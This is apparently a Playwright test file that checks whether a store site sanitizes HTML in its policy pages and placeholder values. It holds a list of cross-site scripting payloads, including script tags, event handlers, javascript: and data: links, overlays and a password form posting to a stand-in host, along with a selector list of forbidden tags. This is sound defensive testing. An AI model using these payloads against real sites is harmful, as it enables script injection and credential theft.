import type { Page } from '@playwright/test';
import { ok } from '../../fake-api/responses';
import { sampleStore } from '../../fake-api/samples';
import { expect, test } from '../../fake-api/test';

/** Each sets a global, sends a request or changes the page if it isn't sanitized. */
const UNSAFE = [
  '<script>window.ran = 1</script>',
  '<SCRIPT SRC="https://elsewhere.example/x.js"></SCRIPT>',
  '<img src="x:" onerror="window.ran = 2" alt="A picture">',
  '<p onclick="window.ran = 3" onmouseover="window.ran = 3">Press me</p>',
  '<iframe src="https://elsewhere.example/frame" srcdoc="<script>top.ran = 4</script>"></iframe>',
  '<a href="javascript:window.ran = 5">A link</a>',
  '<a href=" java&#10;script:window.ran = 5">Another link</a>',
  '<a href="data:text/html,<script>top.ran = 5</script>">A third link</a>',
  '<svg onload="window.ran = 6"><script>window.ran = 6</script></svg>',
  '<math><mi xlink:href="javascript:window.ran = 6">x</mi></math>',
  '<style>header, footer { display: none !important }</style>',
  '<p style="position: fixed; inset: 0; z-index: 9999; background: red">Over everything</p>',
  '<form action="https://elsewhere.example/steal"><input name="password"><button>Go</button></form>',
  '<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=/404">',
  '<link rel="stylesheet" href="https://elsewhere.example/x.css"><object data="x"></object>',
  '<p id="root" name="root" class="visually-hidden">A name of the page’s own</p>',
  '</article></main></div><p>Left open: <b><i><table><tr><td>',
  '<h1>A heading</h1><h1>A second one',
];

const FORBIDDEN =
  'script, iframe, style, svg, math, form, input, button, base, meta, link, object, [style], [id="root"], [class]';

/** Parts of a policy that could run, load or restyle anything. */
function dangers(page: Page): Promise<string[]> {
  return page.getByRole('article').evaluate((article, forbidden) => {
    const elements = [...article.querySelectorAll('*')];
    const handlers = elements.flatMap((element) =>
      element.getAttributeNames().filter((name) => name.startsWith('on')),
    );
    const targets = elements
      .map((element) => element.getAttribute('href') ?? '')
      .filter((target) => /script:|data:/i.test(target));
    const found = [...article.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML);
    return [...found, ...handlers, ...targets];
  }, FORBIDDEN);
}

async function expectHarmless(page: Page): Promise<void> {
  const main = page.getByRole('main');
  await expect(main.getByText('Press me')).toBeVisible();
  expect(await dangers(page)).toEqual([]);
  await expect(main.getByText('Over everything')).toHaveCSS('position', 'static');
  for (const name of ['A link', 'Another link', 'A third link']) {
    await main.getByText(name, { exact: true }).click();
  }
  await main.getByText('Press me').click();
  expect(await page.evaluate(() => Reflect.get(window, 'ran') as unknown)).toBeUndefined();
  await expect(page.getByRole('banner')).toBeVisible();
  await expect(page.getByRole('contentinfo')).toBeVisible();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(['A heading']);
  await expect(main.getByRole('link', { name: 'Contact Us' })).toHaveCSS(
    'font-weight',
    /^[34567]00$/,
  );
}

test.beforeEach(({ fakeApi, consoleGuard, context }) => {
  const html = UNSAFE.join('');
  fakeApi.respondTo(
    'GET /storeInfo',
    ok(sampleStore({ policies: { terms: html, privacy: html } })),
  );
  // The picture of the unsafe HTML doesn't exist.
  consoleGuard.allow(/net::ERR_UNKNOWN_URL_SCHEME/);
  return context.route('https://elsewhere.example/**', () => {
    throw new Error('A store’s text called another server.');
  });
});

test('[CONT-02] no script, request or overlay in a policy works on the page that the server sent', async ({
  page,
}) => {
  await page.goto('/terms');
  await expectHarmless(page);
});

test('[CONT-02] no script, request or overlay in a policy works when it is opened from another page', async ({
  page,
}) => {
  await page.goto('/contact');
  await page.getByRole('main').getByRole('heading', { name: 'Contact Us' }).waitFor();
  await page.evaluate(() => {
    const footer = document.querySelector('footer');
    footer?.querySelectorAll('details').forEach((section) => (section.open = true));
  });
  const link = page.getByRole('contentinfo').locator('a[href="/privacy"]');
  await link.dispatchEvent('click');
  await expect(page).toHaveURL('/privacy');
  await expectHarmless(page);
});

test('[CONT-02] the values of placeholders are inserted as text, whatever the company name contains', async ({
  page,
  fakeApi,
}) => {
  const companyName = '"><script>window.ran = 1</script><img src=x: onerror="window.ran = 1">';
  const companyLogoUrl = 'javascript:window.ran = 1';
  const terms =
    '<p title="{{companyName}}">{{companyName}}</p><img src="{{companyLogoUrl}}" alt="Logo">';
  fakeApi.respondTo(
    'GET /storeInfo',
    ok(sampleStore({ companyName, companyLogoUrl, policies: { terms } })),
  );
  await page.goto('/terms');
  await expect(page.getByRole('article')).toHaveText(companyName);
  expect(await dangers(page)).toEqual([]);
  expect(await page.getByRole('article').getByAltText('Logo').getAttribute('src')).toBeFalsy();
  expect(await page.evaluate(() => Reflect.get(window, 'ran') as unknown)).toBeUndefined();
});
